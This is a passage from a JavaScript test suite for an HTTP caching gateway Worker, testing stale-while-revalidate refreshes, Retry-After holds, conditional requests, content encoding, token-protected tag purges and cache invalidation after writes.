      what: "the other no-store requests at the origin, or waiting on the first one's",
    });
    release();
    const answers = await Promise.all([first, ...others].map(async (r) => (await r).text()));
    assert.equal(count(), 1, `one origin request for the three no-store requests (answers: ${answers})`);
    assert.deepEqual(answers, ["copy 1", "copy 1", "copy 1"]);
    // Not stored: the next ordinary request asks the origin.
    const plain = await worker.fetch(path);
    assert.equal(`${plain.headers.get("x-cache")} ${await plain.text()}`, "MISS copy 2");
    origin.reset();
  });

  test("a no-store request in a stale-while-revalidate window is served the stale copy and starts no refresh", async () => {
    origin.reset();
    let n = 0;
    origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain" }).end(`copy ${++n}`));
    const path = `/gw/swr?nostore-refresh=${Date.now()}`;
    assert.equal(await (await worker.fetch(path)).text(), "copy 1");
    await until(async () => (await worker.fetch(path)).headers.get("x-cache") === "HIT", { what: "the copy stored" });
    // The copy's TTL is 1 s (±10%): aged past it, it is served stale while a refresh goes on.
    await age(worker, "edge-cache", 1_200);
    for (let i = 0; i < 3; i++) {
      const r = await worker.fetch(path, { headers: { "cache-control": "no-store" } });
      assert.equal(`${r.headers.get("x-cache")} ${await r.text()}`, "STALE copy 1");
    }
    // An ordinary request refreshes it, and that refresh is stored: before the fix the no-store requests' refreshes
    // were origin requests whose answers nobody kept (and an ordinary request joining one was left stale).
    const plain = await worker.fetch(path);
    assert.equal(`${plain.headers.get("x-cache")} ${await plain.text()}`, "STALE copy 1");
    const refreshed = await until(async () => {
      const r = await worker.fetch(path);
      const text = await r.text();
      return r.headers.get("x-cache") === "HIT" && text;
    }, { what: "the refreshed copy stored" });
    assert.equal(refreshed, "copy 2", "the ordinary request's refresh is the one stored");
    assert.equal(n, 2, "one origin request for the refresh, none for the no-store requests");
    origin.reset();
  });

  /** Waits until no stale-while-revalidate refresh runs in the Worker (one a request started is done). */
  async function untilNoRefresh() {
    let seen;
    await until(async () => {
      seen = (await (await worker.fetch("/__debug/coalesce")).json()).refreshing;
      return seen === 0;
    }, { what: () => `no refresh running (last seen: ${seen})` });
  }

  /** Waits until `copy` of `path` is stored in `w` (a HIT of it), then ages it past its 1 s TTL (±10%). */
  async function untilStale(path, copy, w = worker) {
    await until(async () => {
      const r = await w.fetch(path);
      return r.headers.get("x-cache") === "HIT" && (await r.text()) === copy;
    }, { what: `${copy} stored` });
    await age(w, "edge-cache", 1_200);
  }

  /** Stores "copy 1" of a fresh `/gw/swr` key (the origin numbers its answers) and waits out its TTL. */
  async function staleCopy(name) {
    origin.reset();
    let n = 0;
    origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain" }).end(`copy ${++n}`));
    const path = `/gw/swr?${name}=${Date.now()}`;
    assert.equal(await (await worker.fetch(path)).text(), "copy 1");
    await untilStale(path, "copy 1");
    return path;
  }

  /** Asks `path` `times` times, each answered "STALE copy 1", each request's refresh (if it started one) over before
   * the next request, which would otherwise join it. */
  async function askStale(path, times) {
    for (let i = 0; i < times; i++) {
      const r = await worker.fetch(path);
      assert.equal(`${r.headers.get("x-cache")} ${await r.text()}`, "STALE copy 1", `request ${i + 1}`);
      await untilNoRefresh();
    }
  }

  test("a stale-while-revalidate refresh the origin fails holds off the next ones: a down origin is not asked once per request", async () => {
    const path = await staleCopy("refresh-outage");
    let refreshes = 0;
    origin.handle((req, body, res) => {
      refreshes += 1;
      res.writeHead(503, { "content-type": "text/plain" }).end("down");
    });
    await askStale(path, 8);
    // A failed refresh holds the key's next one off for GATEWAY_REFRESH_HOLD_MS (here longer than the test): one
    // refresh. Before, each of the 8 requests asked the origin.
    assert.equal(refreshes, 1, "the first request's refresh alone asks the origin");
    origin.reset();
  });

  test("stale requests whose refreshes joined one the origin answered for no cache (Set-Cookie) ask nothing more: one refresh", async () => {
    // A 200 starting a session, and a 503 with a sticky balancer's cookie (an outage): neither is stored or shared.
    for (const [status, cookie] of [[200, "sid=1"], [503, "lb=a"]]) {
      const path = await staleCopy(`joined-refresh-${status}`);
      let asked = 0;
      origin.handle(async (req, body, res) => {
        asked += 1;
        // The first refresh is answered once the refreshes of the two stale requests after it wait on it.
        if (asked === 1) await untilWaiting(worker, 2);
        res.writeHead(status, { "content-type": "text/plain", "set-cookie": cookie }).end("not for the cache");
      });
      const first = await worker.fetch(path);
      const answers = [first, ...(await Promise.all([worker.fetch(path), worker.fetch(path)]))];
      const seen = await Promise.all(answers.map(async (r) => `${r.headers.get("x-cache")} ${await r.text()}`));
      assert.deepEqual(seen, Array(3).fill("STALE copy 1"));
      await untilNoRefresh();
      // Before, each joined refresh, handed an answer it could not share, asked the origin again: 3 requests.
      assert.equal(asked, 1, `${status}: the first refresh alone asks the origin`);
    }
    origin.reset();
  });

  test("a key passed to the origin is not refreshed in its stale-while-revalidate window: a refresh is a shared fill too", async () => {
    const path = await staleCopy("pass-refresh");
    // The origin now answers each visitor its own (a session cookie): the first refresh's answer passes the key.
    let asked = 0;
    origin.handle((req, body, res) => {
      asked += 1;
      res.writeHead(200, { "content-type": "text/plain", "set-cookie": "sid=1" }).end("mine");
    });
    await askStale(path, 5);
    // Before, every request's refresh asked the origin again (5), each answer thrown away.
    assert.equal(asked, 1, "one refresh, which passed the key; none while it is passed");
    origin.reset();
  });

  test("a failed refresh's hold ends once the origin answers a fill of the key: the next copy's window refreshes again", async () => {
    origin.reset();
    const tag = `hold-lifted-${Date.now()}`;
    let n = 0;
    let down = false;
    origin.handle((req, body, res) => {
      n += 1;
      if (down) return res.writeHead(503, { "content-type": "text/plain" }).end("down");
      res.writeHead(200, { "content-type": "text/plain", "cache-tag": tag }).end(`copy ${n}`);
    });
    const path = `/gw/swr?${tag}`;
    assert.equal(await (await worker.fetch(path)).text(), "copy 1");
    await untilStale(path, "copy 1");
    // The origin is down: the refresh fails and holds the key's refreshes off (GATEWAY_REFRESH_HOLD_MS, here longer
    // than the test).
    down = true;
    const during = await worker.fetch(path);
    assert.equal(`${during.headers.get("x-cache")} ${await during.text()}`, "STALE copy 1");
    await untilNoRefresh();
    assert.equal(n, 2, "one refresh, failed");
    // It is back, and a fill of the key gets its answer: the tag purged, the next request fills in the foreground.
    down = false;
    const purged = await purgeTags([tag]);
    assert.equal(purged.status, 200);
    await purged.arrayBuffer();
    const refilled = await worker.fetch(path);
    assert.equal(`${refilled.headers.get("x-cache")} ${await refilled.text()}`, "MISS copy 3");
    await untilStale(path, "copy 3");
    // That copy's window refreshes it: the origin answered the key since the failed refresh. Before, the hold stood
    // for its whole length, and every request in the window was served the stale copy without a refresh.
    const next = await worker.fetch(path);
    assert.equal(`${next.headers.get("x-cache")} ${await next.text()}`, "STALE copy 3");
    await untilNoRefresh();
    assert.equal(n, 4, "the stale copy's request refreshed it");
    origin.reset();
  });

  test("a stale-while-revalidate refresh the origin answers 429 (or 503) holds the key's refreshes for its Retry-After: a rate-limited origin is not asked once per request", async (t) => {
    // An isolate of its own whose configured hold is 10 s: an origin's `Retry-After` (delta-seconds or an HTTP-date)
    // of 120 s holds past it, at most 300 s; without one, the configured hold. The holds are seen ending through the
    // debug route that ages the isolate's refresh holds: no request has to land in a window of the clock, and each
    // request's refresh (or none) is counted exactly.
    const HOLD_MS = 10_000;
    const own = await startWorker({
      vars: {
        GATEWAY_ROUTES: [{ name: "swr", path: "/gw/swr", upstream: origin.url, cache: "short-swr" }],
        GATEWAY_CACHE_POLICIES: policies,
        GATEWAY_REFRESH_HOLD_MS: HOLD_MS,
      },
    });
    t.after(() => own.stop());
    const noRefresh = () =>
      until(async () => (await (await own.fetch("/__debug/coalesce")).json()).refreshing === 0, { what: "no refresh running" });
    origin.reset();
    let n = 0;
    let limited = null;
    let status = 429;
    origin.handle((req, body, res) => {
      n += 1;
      if (limited) return res.writeHead(status, { "content-type": "text/plain", ...limited }).end("slow down");
      res.writeHead(200, { "content-type": "text/plain" }).end(`copy ${n}`);
    });
    // Each case: the origin's answer, then whether each request refreshes — the first; one right after it; one
    // once the configured hold has passed (aged 10 s); one once 120 s have (aged 110 s more); one once 300 s have
    // (aged 180 s more: every hold, the longest bounded at 300 s, has ended).
    const ages = [0, 0, HOLD_MS, 120_000 - HOLD_MS, 180_000];
    const retryAfter = [true, false, false, true, true];
    const cases = [
      ["delta-seconds", 429, { "retry-after": "120" }, retryAfter],
      ["an HTTP-date", 429, { "retry-after": new Date(Date.now() + 120_000).toUTCString() }, retryAfter],
      ["none: the configured hold", 429, {}, [true, false, true, true, true]],
      // Said for a day: held 300 s at most.
      ["delta-seconds past the bound", 429, { "retry-after": "86400" }, [true, false, false, false, true]],
      // RFC 9110 §10.2.3: a 503's Retry-After says how long the origin expects to be down. Before, it was read for a
      // 429 alone: a 503 held for the configured hold, and the request once it had passed refreshed.
      ["a 503's delta-seconds", 503, { "retry-after": "120" }, retryAfter],
      ["a 503 without one: the configured hold", 503, {}, [true, false, true, true, true]],
    ];
    for (const [index, [what, answered, headers, refreshes]] of cases.entries()) {
      limited = null;
      status = answered;
      const path = `/gw/swr?limited-${index}-${Date.now()}`;
      const first = await own.fetch(path);
      const copy = await first.text();
      await untilStale(path, copy, own);
      limited = headers;
      const seen = [];
      for (const [i, ms] of ages.entries()) {
        if (ms) await age(own, "refresh-holds", ms);
        const before = n;
        const r = await own.fetch(path);
        assert.equal(`${r.headers.get("x-cache")} ${await r.text()}`, `STALE ${copy}`, `${what}: request ${i + 1}`);
        await noRefresh();
        seen.push(n - before === 1);
        assert.ok(n - before <= 1, `${what}: request ${i + 1} asked the origin once at most`);
      }
      // Before, a 429 set no hold: each request's refresh asked the rate-limited origin again.
      assert.deepEqual(seen, refreshes, `Retry-After ${what}: which requests' refreshes asked the origin`);
    }
    origin.reset();
  });

  test("a purge mark KV holds that is not a time counts as purged, as an unreadable one does: the stored copy is not served", async () => {
    origin.reset();
    const tag = `garbled-${Date.now()}`;
    // Not a time this Worker writes: some other writer's, or a damaged value.
    await kv.put(`gateway:purge:${tag}`, "x");
    let n = 0;
    origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain", "cache-tag": tag }).end(`copy ${++n}`));
    const path = `/gw/cached?${tag}`;
    const first = await worker.fetch(path);
    assert.equal(`${first.headers.get("x-cache")} ${await first.text()}`, "MISS copy 1");
    const unreadable = () =>
      worker.jsonLogs().filter((l) => l.msg === "purge time unreadable; serving from the origin" && l.tag === tag);
    for (let i = 2; i <= 4; i++) {
      const r = await worker.fetch(path);
      const answer = `${r.headers.get("x-cache")} ${await r.text()}`;
      // Before, the mark read as "never purged": a HIT of copy 1.
      assert.equal(answer, `MISS copy ${i}`, `request ${i}`);
    }
    assert.ok(unreadable().length >= 3, "each read logged, and the mark read again each time");
    assert.match(unreadable()[0].detail, /not a time/);
    origin.reset();
  });

  test("a request saying Cache-Control: only-if-cached is answered 504 without asking the origin when nothing is stored, and from a stored copy when one is (RFC 9111 §5.2.1.7)", async () => {
    origin.reset();
    origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain" }).end("the copy"));
    const path = `/gw/cached?only=${Date.now()}`;
    for (const method of ["GET", "HEAD"]) {
      const r = await worker.fetch(path, { method, headers: { "cache-control": "only-if-cached" } });
      assert.equal(r.status, 504, method);
      await r.arrayBuffer();
    }
    assert.equal(origin.requests.length, 0, "the origin is not asked");
    const filled = await worker.fetch(path);
    assert.equal(filled.headers.get("x-cache"), "MISS");
    await filled.arrayBuffer();
    await until(async () => {
      const r = await worker.fetch(path, { headers: { "cache-control": "max-age=0, only-if-cached" } });
      const text = await r.text();
      return r.status === 200 && r.headers.get("x-cache") === "HIT" && text === "the copy";
    }, { what: "the stored copy served to an only-if-cached request" });
    assert.equal(origin.requests.length, 1);
    // A Range request is never served from a copy and goes to the origin — but not when it said only-if-cached.
    const ranged = await worker.fetch(path, { headers: { range: "bytes=0-3", "cache-control": "only-if-cached" } });
    assert.equal(ranged.status, 504);
    assert.equal((await ranged.json()).error.code, "not_cached");
    assert.equal(origin.requests.length, 1, "the origin is not asked");
    origin.reset();
  });

  test("an origin's ETag without quotes is matched as it was sent: revalidations are answered 304", async () => {
    origin.reset();
    origin.handle((req, body, res) => {
      res.writeHead(200, { "content-type": "text/plain", etag: "5d8c72a5" });
      res.end("unquoted");
    });
    const path = `/gw/static/unquoted.txt?n=${Date.now()}`;
    const first = await worker.fetch(path);
    assert.equal(first.headers.get("etag"), "5d8c72a5");
    assert.equal(await first.text(), "unquoted");
    // A browser sends the tag back exactly as it got it.
    const again = await worker.fetch(path, { headers: { "if-none-match": "5d8c72a5" } });
    assert.equal(again.status, 304);
    assert.equal(await again.text(), "");
    const other = await worker.fetch(path, { headers: { "if-none-match": "5d8c72a6" } });
    assert.equal(other.status, 200);
    assert.equal(await other.text(), "unquoted");
    origin.reset();
  });

  test("If-Modified-Since is answered 304 when the stored copy was not modified after its date, in any HTTP-date format (RFC 9110 §13.1.3)", async () => {
    origin.reset();
    origin.handle((req, body, res) => {
      res.writeHead(200, { "content-type": "text/plain", "last-modified": "Sun, 06 Nov 1994 08:49:37 GMT" });
      res.end("dated");
    });
    const path = `/gw/static/dated.txt?n=${Date.now()}`;
    const first = await worker.fetch(path);
    assert.equal(await first.text(), "dated");
    for (const [since, status, why] of [
      ["Sun, 06 Nov 1994 08:49:37 GMT", 304, "the date it was given"],
      ["Mon, 07 Nov 1994 00:00:00 GMT", 304, "a later date (a proxy's, or a copy from elsewhere)"],
      ["Sunday, 06-Nov-94 08:49:37 GMT", 304, "rfc850-date"],
      ["Sun Nov  6 08:49:38 1994", 304, "asctime-date"],
      ["Sun, 06 Nov 1994 08:49:36 GMT", 200, "a second earlier"],
      ["not a date", 200, "not an HTTP-date: ignored"],
    ]) {
      const r = await worker.fetch(path, { headers: { "if-modified-since": since } });
      assert.equal(r.status, status, `${why}: ${since}`);
      assert.equal(r.headers.get("x-cache"), "HIT", why);
      assert.equal(await r.text(), status === 304 ? "" : "dated", why);
    }
    const tagged = await worker.fetch(path, { headers: { "if-modified-since": "Mon, 07 Nov 1994 00:00:00 GMT", "if-none-match": '"other"' } });
    assert.equal(tagged.status, 200, "ignored beside If-None-Match");
    await tagged.arrayBuffer();
    assert.equal(origin.requests.length, 1, "all answered from the stored copy");
    origin.reset();
  });

  test("a stored copy without Last-Modified answers If-Modified-Since by when it was stored (RFC 9111 §4.3.2)", async () => {
    origin.reset();
    origin.handle((req, body, res) => {
      res.writeHead(200, { "content-type": "text/plain", date: "Sun, 06 Nov 1994 08:49:37 GMT" });
      res.end("undated");
    });
    const path = `/gw/static/undated.txt?n=${Date.now()}`;
    const first = await worker.fetch(path);
    assert.equal(await first.text(), "undated");
    // A date the test takes after the copy was stored: nothing changed since it, so 304.
    const after = new Date(Date.now() + 2000).toUTCString();
    for (const [since, status, why] of [
      [after, 304, "a date after it was stored"],
      ["Sun, 06 Nov 1994 08:49:37 GMT", 200, "its origin's Date, before it was stored: a full answer, as it may be newer"],
      ["not a date", 200, "not an HTTP-date: ignored"],
    ]) {
      const r = await worker.fetch(path, { headers: { "if-modified-since": since } });
      assert.equal(r.status, status, `${why}: ${since}`);
      assert.equal(r.headers.get("x-cache"), "HIT", why);
      assert.equal(await r.text(), status === 304 ? "" : "undated", why);
    }
    assert.equal(origin.requests.length, 1, "all answered from the stored copy");
    origin.reset();
  });

  test("a MISS says the Date the HIT after it says, not an origin's older one whose Age the policy replaced", async () => {
    origin.reset();
    // An origin behind a CDN of its own: its answer was made 100 s ago, and says so by Date and Age.
    const made = new Date(Date.now() - 100_000).toUTCString();
    origin.handle((req, body, res) => {
      res.writeHead(200, { "content-type": "text/plain", date: made, age: "100" });
      res.end("relayed");
    });
    const path = `/gw/cached?dated=${Date.now()}`;
    const miss = await worker.fetch(path);
    await miss.text();
    assert.equal(miss.headers.get("x-cache"), "MISS");
    assert.equal(miss.headers.get("age"), null, "the policy's freshness counts from the fill");
    // Dated 100 s back with max-age=60 and no Age, a browser took the MISS for stale on arrival.
    assert.notEqual(miss.headers.get("date"), made, "not the origin's Date");
    const hit = await worker.fetch(path);
    await hit.text();
    assert.equal(hit.headers.get("x-cache"), "HIT");
    assert.equal(miss.headers.get("date"), hit.headers.get("date"), "one copy, one Date");
    const since = await worker.fetch(path, { headers: { "if-modified-since": hit.headers.get("date") } });
    assert.equal(since.status, 304, "its Date sent back is answered as not modified");
    assert.equal(since.headers.get("date"), hit.headers.get("date"));
    assert.equal(origin.requests.length, 1);
    origin.reset();
  });

  test("a MISS answers If-Modified-Since as the HIT after it does: by when the copy was fetched, not by its origin's Date or its absence", async () => {
    origin.reset();
    for (const date of [null, "Sun, 06 Nov 1994 08:49:37 GMT"]) {
      origin.handle((req, body, res) => {
        res.sendDate = false;
        res.writeHead(200, { "content-type": "text/plain", ...(date ? { date } : {}) });
        res.end("undated");
      });
      const path = `/gw/static/undated-miss.txt?n=${Date.now()}&date=${date ? "old" : "none"}`;
      const after = new Date(Date.now() + 2000).toUTCString();
      for (const [since, status, why] of [
        [after, 304, "a date after it was fetched"],
        ["Sun, 06 Nov 1994 08:49:37 GMT", 200, "a date before it was fetched (its origin's Date, where it sent one)"],
      ]) {
        for (const cache of ["MISS", "HIT"]) {
          const r = await worker.fetch(`${path}&since=${status}`, { headers: { "if-modified-since": since } });
          assert.equal(r.status, status, `${cache}, origin Date ${date}, ${why}: ${since}`);
          assert.equal(r.headers.get("x-cache"), cache, why);
          assert.equal(await r.text(), status === 304 ? "" : "undated", why);
        }
      }
      assert.equal(origin.requests.length, 2, "one fill per key");
      origin.reset();
    }
  });

  test("a stored answer says Vary: Accept-Encoding: the edge codes its one copy as each client accepts", async () => {
    const { gzipSync } = await import("node:zlib");
    origin.reset();
    const plain = "stored " + "text ".repeat(200);
    origin.handle((req, body, res) => {
      const zipped = gzipSync(plain);
      res.writeHead(200, { "content-type": "text/plain", "content-encoding": "gzip", "content-length": zipped.length, vary: "Accept-Encoding", etag: '"z"' });
      res.end(zipped);
    });
    const path = `/gw/cached/coded?${Date.now()}`;
    const miss = await rawRequest(path, { headers: { "accept-encoding": "gzip" } });
    assert.equal(miss.headers.get("x-cache"), "MISS");
    const zipped = await rawRequest(path, { headers: { "accept-encoding": "gzip" } });
    const identity = await rawRequest(path, { headers: { "accept-encoding": "identity" } });
    const unchanged = await rawRequest(path, { headers: { "if-none-match": '"z"' } });
    assert.equal(zipped.headers.get("x-cache"), "HIT");
    assert.equal(identity.body, plain, "a client without gzip gets the text");
    assert.equal(unchanged.status, 304);
    // A browser or a CDN in front keeping one of these must not hand it to a client asking with other codings.
    for (const [what, r] of [["miss", miss], ["gzip hit", zipped], ["identity hit", identity], ["304", unchanged]]) {
      assert.match(r.headers.get("vary") ?? "", /accept-encoding/i, what);
      assert.match(r.headers.get("vary") ?? "", /origin/i, `${what}: entries are per requesting site`);
    }
    assert.equal(origin.requests.length, 1, "one fill");
    origin.reset();
  });

  test("a coding the runtime does not decode keeps its Content-Encoding and is not stored", async () => {
    const { deflateSync } = await import("node:zlib");
    origin.reset();
    const plain = "deflated " + "text ".repeat(100);
    origin.handle((req, body, res) => {
      res.writeHead(200, { "content-type": "text/plain", "content-encoding": "deflate" });
      res.end(deflateSync(plain));
    });
    const path = `/gw/cached/deflate?${Date.now()}`;
    for (const round of [1, 2]) {
      const r = await rawRequest(path, { headers: { "accept-encoding": "deflate" } });
      assert.equal(r.headers.get("content-encoding"), "deflate", `round ${round}`);
      assert.equal(r.headers.get("x-cache"), "MISS", `round ${round}: not stored`);
    }
    const readable = await worker.fetch(path);
    assert.equal(await readable.text(), plain, "fetch decodes what the header says");
    origin.reset();
  });

  test("purge by tag needs an admin token and makes the next request a MISS", async () => {
    origin.reset();
    version = 10;
    origin.handle(versioned({ "cache-tag": "purge-me" }));
    const path = `/gw/cached?purge=${Date.now()}`;
    await (await worker.fetch(path)).arrayBuffer();
    const hit = await worker.fetch(path);
    assert.equal(hit.headers.get("x-cache"), "HIT");
    await hit.arrayBuffer();
    const body = JSON.stringify({ tags: ["purge-me"] });
    const post = (headers) => worker.fetch("/admin/gateway/purge", { method: "POST", headers: { "content-type": "application/json", ...headers }, body });
    const anonymous = await post({});
    assert.equal(anonymous.status, 401);
    assert.equal(anonymous.headers.get("www-authenticate"), "Bearer", "no token sent: the bare challenge");
    const reader = await post(bearer(token(keys, "ed1", { permissions: ["read"] })));
    assert.equal(reader.status, 403);
    assert.equal(reader.headers.get("www-authenticate"), 'Bearer error="insufficient_scope"');
    // A list with one bad tag is refused whole: nothing is marked, the entry stays.
    const adminToken = bearer(token(keys, "ed1", { permissions: ["gateway:admin"] }));
    const mixed = await worker.fetch("/admin/gateway/purge", {
      method: "POST",
      headers: { "content-type": "application/json", ...adminToken },
      body: JSON.stringify({ tags: ["purge-me", "bad,tag"] }),
    });
    assert.equal(mixed.status, 400);
    assert.match((await mixed.json()).error.message, /tag 2 is not a valid cache tag/);
    // A field the purge does not know is refused, not ignored: `{"tags": […], "dry_run": true}` purged for real.
    const dryRun = await worker.fetch("/admin/gateway/purge", {
      method: "POST",
      headers: { "content-type": "application/json", ...adminToken },
      body: JSON.stringify({ tags: ["purge-me"], dry_run: true }),
    });
    assert.equal(dryRun.status, 400);
    assert.match((await dryRun.json()).error.message, /unknown field, expected `tags`$/);
    const still = await worker.fetch(path);
    assert.equal(still.headers.get("x-cache"), "HIT", "a refused purge purged nothing");
    await still.arrayBuffer();
    const admin = await post(adminToken);
    assert.equal(admin.status, 200);
    assert.deepEqual((await admin.json()).purged, ["purge-me"]);
    // Who took what down, and when, is on record whatever REQUEST_LOG_PERCENT samples: a purge is an operator's act.
    const requestId = admin.headers.get("x-request-id");
    const line = await until(
      () => worker.jsonLogs().find((l) => l.msg === "gateway_purge" && l.request_id === requestId),
      { what: "the purge's log line" },
    );
    assert.equal(line.level, "info");
    assert.equal(line.user_id, "user-1");
    assert.deepEqual(line.tags, ["purge-me"]);
    assert.deepEqual(line.failed, []);
    assert.equal(typeof line.at_ms, "number");
    version = 11;
    const after = await worker.fetch(path);
    assert.equal(after.headers.get("x-cache"), "MISS");
    assert.equal((await after.json()).version, 11);
  });

  test("a purge refused for its token (401, 403) is read before its answer, and the connection stays open for the next request", async () => {
    // Refused before its body is read, as a gateway route's 401 is: answered with the upload still coming, workerd
    // closed the connection after it, and the request sent behind it was lost.
    const size = 3 * 1024 * 1024;
    const next = "GET /health HTTP/1.1\r\nHost: x\r\n\r\n";
    const reader = token(keys, "ed1", { permissions: ["read"] });
    for (const [what, authorization, status] of [
      ["no token", "", 401],
      ["a token without the admin permission", `Authorization: Bearer ${reader}\r\n`, 403],
    ]) {
      const head = `POST /admin/gateway/purge HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${authorization}Content-Length: ${size}\r\n\r\n`;
      const { statuses, ended } = await onOneConnection(worker.url, [head, Buffer.alloc(size, " "), next], { answers: 2, what: `${what}: two answers` });
      assert.deepEqual(statuses, [status, 200], `${what}: the answers on one connection (it ended: ${ended})`);
    }
  });

  test("a write the origin accepts invalidates the stored answer for its URL (RFC 9111 §4.4): the writer reads its own write", async () => {
    origin.reset();
    let current = "old";
    origin.handle((req, body, res) => {
      if (req.method === "GET") return res.writeHead(200, { "content-type": "text/plain" }).end(current);
      if (req.headers["x-refuse"]) return res.writeHead(409, { "content-type": "text/plain" }).end("conflict");
      current = req.method === "DELETE" ? "deleted" : body.toString();
      res.writeHead(req.method === "DELETE" ? 204 : 200).end();
    });
    const write = async (path, method, body, headers = {}) => {
      const r = await worker.fetch(path, { method, body, headers });
      await r.arrayBuffer();
      return r.status;
    };
    const path = `/gw/items/${Date.now()}?b=2&a=1`;
    const read = async (at = path) => {
      const r = await worker.fetch(at);
      return `${r.headers.get("x-cache")} ${await r.text()}`;
    };
    assert.equal(await read(), "MISS old");
    assert.equal(await read(), "HIT old");
    assert.equal(await write(path, "PUT", "refused", { "x-refuse": "1" }), 409);
    assert.equal(await read(), "HIT old", "a write the origin refused changed nothing: the stored answer stands");
    for (const [method, body, now] of [["PUT", "put", "put"], ["POST", "posted", "posted"], ["DELETE", undefined, "deleted"]]) {
      assert.ok((await write(path, method, body)) < 300, method);
      assert.equal(await read(), `MISS ${now}`, `${method}: the next read is the origin's`);
      assert.equal(await read(), `HIT ${now}`, `${method}: and stored again`);
    }
    // A write through a route of its own, beside the cached GET route: the GET route's entry goes.
    current = "old";
    const note = `/gw/cached/notes/${Date.now()}`;
    assert.equal(await read(note), "MISS old");
    assert.equal(await read(note), "HIT old");
    assert.equal(await write(note, "PUT", "noted"), 200);
    assert.equal(await read(note), "MISS noted");
    origin.reset();
  });

  test("a page's write (sent with Origin) invalidates the entry its own same-origin reads (sent without) are served", async () => {
    origin.reset();
    let current = "old";
    origin.handle((req, body, res) => {
      if (req.method === "GET") return res.writeHead(200, { "content-type": "text/plain" }).end(current);
      current = body.toString();
      res.writeHead(200).end();
    });
    const path = `/gw/items/paged-${Date.now()}`;
    const read = async (headers = {}) => {
      const r = await worker.fetch(path, { headers });
      return `${r.headers.get("x-cache")} ${await r.text()}`;
    };
    const site = { origin: "https://app.example" };
    assert.equal(await read(), "MISS old");
    assert.equal(await read(), "HIT old");
    assert.equal(await read(site), "MISS old");
    assert.equal(await read(site), "HIT old");
    // A browser sends Origin with every request that is not a GET or HEAD, and not with its page's same-origin
    // GETs nor its navigations (Fetch standard, HTTP-network-or-cache fetch).
    const put = await worker.fetch(path, { method: "PUT", body: "new", headers: site });
    assert.equal(put.status, 200);
    await put.arrayBuffer();
    assert.equal(await read(), "MISS new", "the page's own reads, sent without Origin, read the write");
    assert.equal(await read(site), "MISS new", "and its cross-origin ones, sent with it");
    origin.reset();
  });

  test("a fill asked for before a write to its URL is not stored after it, nor handed to a read made after it", async () => {
    origin.reset();
    let current = "before the write";
    let release;
    const released = new Promise((resolve) => (release = resolve));
    let reads = 0;
    origin.handle(async (req, body, res) => {
      if (req.method !== "GET") {
        current = body.toString();
        return res.writeHead(200).end();
      }
      const answer = current;
      // The first read's answer, made before the write, reaches the gateway only after the write was answered.
      if (++reads === 1) await released;
      res.writeHead(200, { "content-type": "text/plain" }).end(answer);
    });
    const path = `/gw/items/raced-${Date.now()}`;
    const first = worker.fetch(path);
    await until(() => reads === 1, { what: "the fill to reach the origin" });
    const put = await worker.fetch(path, { method: "PUT", body: "after the write" });
    assert.equal(put.status, 200);
    await put.arrayBuffer();
    const later = worker.fetch(path);
    await untilWaiting(worker, 1);
    release();
    assert.equal(await (await first).text(), "before the write", "the read made before the write gets its fill's answer");
    assert.equal(await (await later).text(), "after the write", "the read made after it is not handed that answer");
    const next = await worker.fetch(path);
    assert.equal(await next.text(), "after the write", "nor was it stored over the write");
    origin.reset();
  });

  /**
   * Four reads of `path` sharing fills: the origin holds the first GET until the other three wait on it in the
   * Worker; every GET then runs `meanwhile()` (what reaches the key while a fill is under way: a write, a purge) before
   * it answers with what `answer(n)` said when the n-th GET arrived. Other methods go to `other`. Resolves to the four
   * answers and how many GETs reached the origin.
   */
  async function readsDuringFills(path, { answer, meanwhile, headers = {}, other }) {
    let gets = 0;
    let release;
    const released = new Promise((resolve) => (release = resolve));
    origin.handle(async (req, body, res) => {
      if (req.method !== "GET") return other(req, res);
      const text = answer(gets);
      if (++gets === 1) await released;
      await meanwhile();
      res.writeHead(200, { "content-type": "text/plain", ...headers }).end(text);
    });
    const first = worker.fetch(path);
    await until(() => gets === 1, { what: "the fill to reach the origin" });
    const joined = [worker.fetch(path), worker.fetch(path), worker.fetch(path)];
    await untilWaiting(worker, 3);
    release();
    const answers = await Promise.all([first, ...joined].map(async (r) => (await r).text()));
    return { answers, gets };
  }

  test("reads made before a write share the fill they joined, though writes keep coming to the key", async () => {
    origin.reset();
    const path = `/gw/items/hot-${Date.now()}`;
    let version = 0;
    // Every fill meets a write to its key before its answer arrives, as a hot key written every few milliseconds does.
    const { answers, gets } = await readsDuringFills(path, {
      answer: () => `v${version}`,
      meanwhile: async () => {
        const put = await worker.fetch(path, { method: "PUT", body: "x" });
        await put.arrayBuffer();
      },
      other: (req, res) => {
        version += 1;
        res.writeHead(200).end();
      },
    });
    // Each made before the write: the answer from before it is theirs (the write is concurrent with them). Asked
    // again for the write, each waited for a fill of its own, one after another, every one meeting a write.
    assert.deepEqual(answers, ["v0", "v0", "v0", "v0"]);
    assert.equal(gets, 1, "one origin request for the four reads");
    origin.reset();
  });

  /** `POST /admin/gateway/purge` of `tags` with a token holding the gateway's admin permission. */
  const purgeTags = (tags) =>
    worker.fetch("/admin/gateway/purge", {
      method: "POST",
      headers: { "content-type": "application/json", ...bearer(token(keys, "ed1", { permissions: ["gateway:admin"] })) },
      body: JSON.stringify({ tags }),
    });

  test("a request made after a purge is not handed the answer of a fill asked for before it", async () => {
    origin.reset();
    const stamp = Date.now();
    let release;
    const released = new Promise((resolve) => (release = resolve));
    let content = "before the purge";
    origin.handle(async (req, body, res) => {
      const answer = content;
      // The first fill's answer is held until a request made after the purge waits on it.
      if (origin.requests.length === 1) await released;
      res.writeHead(200, { "content-type": "text/plain", "cache-tag": `race-${stamp}` });
      res.end(answer);
    });
    const path = `/gw/cached?race=${stamp}`;
    const first = worker.fetch(path);
    await until(() => origin.requests.length === 1, { what: "the fill to reach the origin" });
    // The operator changes the content, then purges its tag, while that fill is still under way.
    content = "after the purge";
    const purge = await purgeTags([`race-${stamp}`]);
    assert.equal(purge.status, 200);
    await purge.arrayBuffer();
    const later = worker.fetch(path);
    await untilWaiting(worker, 1);
    release();
    const [early, late] = await Promise.all([first, later]);
    assert.equal(await early.text(), "before the purge", "the request made before the purge gets its fill's answer");
    assert.equal(await late.text(), "after the purge", "the one made after it is not handed the purged answer");
    const next = await worker.fetch(path);
    assert.equal(await next.text(), "after the purge");
    origin.reset();
  });

  test("with a tag purged during every fill, reads waiting on a purged fill share one fill asked again", async () => {
